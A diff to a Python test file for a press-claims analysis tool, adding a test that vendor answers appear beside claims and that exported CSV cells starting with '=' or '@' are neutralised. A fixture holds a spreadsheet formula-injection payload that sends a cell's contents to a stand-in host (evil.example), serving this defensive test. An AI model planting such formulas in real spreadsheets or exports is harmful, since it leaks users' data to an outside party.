@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import re
-from datetime import UTC, datetime
+from datetime import UTC, date, datetime
 
 import pandas as pd
 import pytest
@@ -16,10 +16,11 @@ from analysis.codebook import Codebook, load_codebook
 from analysis.config import ROOT, Settings
 from analysis.export import COLUMNS, export_files, neutralise, restore
 from analysis.records import Article, Claim, article_id
-from analysis.store import ClaimFilter, Store
+from analysis.store import Answer, ClaimFilter, Store
 
 NOON = datetime(2019, 4, 12, 12, tzinfo=UTC)
 FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"Ouvrir")'
+ANSWER = ("asked", "answered", "answered_by", "answer", "answer_entries")
 PARAGRAPHS = (
     FORMULA,
     "'Déjà cité', a-t-on dit.",
@@ -217,6 +218,30 @@ def test_a_verdict_stands_beside_its_claim(press: Store, codebook: Codebook) -> 
     assert others == ["unreviewed"] * 4
     (asked,) = claims_file(press, ClaimFilter(verdicts=("rejected",)), codebook)
     assert (asked["claim_id"], asked["verdict_note"]) == (rejected, "=1+1")
+
+
+def test_what_the_company_answered_stands_beside_its_claims(
+    press: Store, codebook: Codebook
+) -> None:
+    asked, answered = date(2024, 5, 2), date(2024, 5, 6)
+    first, second = [claim.id for claim in press.claims(ClaimFilter(vendors=("amazon",)))[:2]]
+    press.log_answer(Answer("amazon", "Ann", asked=asked))
+    before = {row["claim_id"]: row for row in claims_file(press, ClaimFilter(), codebook)}
+    assert [before[first][name] for name in ANSWER] == ["2024-05-02", "", "", "", "1"]
+    for text in ("No comment", "=1+1"):
+        press.log_answer(Answer("amazon", "Ann", (), (first,), asked, answered, "@Press", text))
+    press.log_answer(Answer("amazon", "Ann", ("human_review",), (), None, answered, "", "Other"))
+    press.log_answer(Answer("amazon", "Ann", asked=date(2024, 6, 1)))
+    rows = {row["claim_id"]: row for row in claims_file(press, ClaimFilter(), codebook)}
+    assert [rows[first][name] for name in ANSWER] == [
+        *("2024-05-02", "2024-05-06", "@Press", "=1+1", "4"),
+    ]
+    assert [rows[second][name] for name in ANSWER] == ["2024-06-01", "", "", "", "2"]
+    (other,) = (row for row in rows.values() if row["vendor"] != "amazon")
+    assert [other[name] for name in ANSWER] == ["", "", "", "", "0"]
+    content = export_files(press, ClaimFilter(), codebook)["claims.csv"].decode("utf-8-sig")
+    assert "'=1+1" in content
+    assert "'@Press" in content
 
 
 def test_an_empty_store_gives_headers(store: Store, codebook: Codebook) -> None:
